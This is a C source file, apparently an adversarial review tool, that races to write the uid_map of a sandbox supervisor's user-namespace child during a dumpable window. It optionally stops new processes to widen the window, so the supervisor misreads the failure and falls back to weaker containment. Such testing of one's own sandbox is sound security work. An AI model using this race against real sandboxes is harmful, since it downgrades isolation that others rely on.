/*
 * ha67-mapwin: hostile review h-attack67. A process of the supervisor's uid,
 * outside its namespaces, writes the id map of the supervisor's userns
 * trial child (contain.c userns_trial) in the window where that child is
 * dumpable (contain.c userns_steps: PR_SET_DUMPABLE 1 for its three
 * writes). The child's own write of uid_map then fails with EPERM (a map is
 * written once), which sv_contain_host_refuses counts as the host's
 * refusal: the run falls back to subreaper+landlock.
 *   ha67-mapwin SECONDS [stop]
 * Polls the newest pids (ns_last_pid) and opens /proc/PID/uid_map for
 * writing until one opens; with "stop" it SIGSTOPs/SIGCONTs each new
 * process of its uid to widen the window. Prints how many maps it wrote.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "ha67-common.h"

int main(int argc, char **argv)
{
	double secs = argc > 1 ? atof(argv[1]) : 10;
	int stop = argc > 2 && strcmp(argv[2], "stop") == 0;
	char map[64], path[64];
	struct timespec t0, t;
	int wrote = 0, done_pid = 0;

	snprintf(map, sizeof(map), "%u %u 1\n", (unsigned)getuid(), (unsigned)getuid());
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		int l = last_pid();

		for (int p = l - 2; p <= l; p++) {
			int fd;

			if (p <= 1 || p == done_pid || p == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/uid_map", p);
			if (stop)
				kill(p, SIGSTOP);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				if (write(fd, map, strlen(map)) == (ssize_t)strlen(map)) {
					wrote++;
					done_pid = p;
					fprintf(stderr, "ha67-mapwin: wrote uid_map of %d\n", p);
				}
				close(fd);
			}
			if (stop)
				kill(p, SIGCONT);
		}
		clock_gettime(CLOCK_MONOTONIC, &t);
		if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 > secs)
			break;
	}
	printf("wrote %d\n", wrote);
	return 0;
}
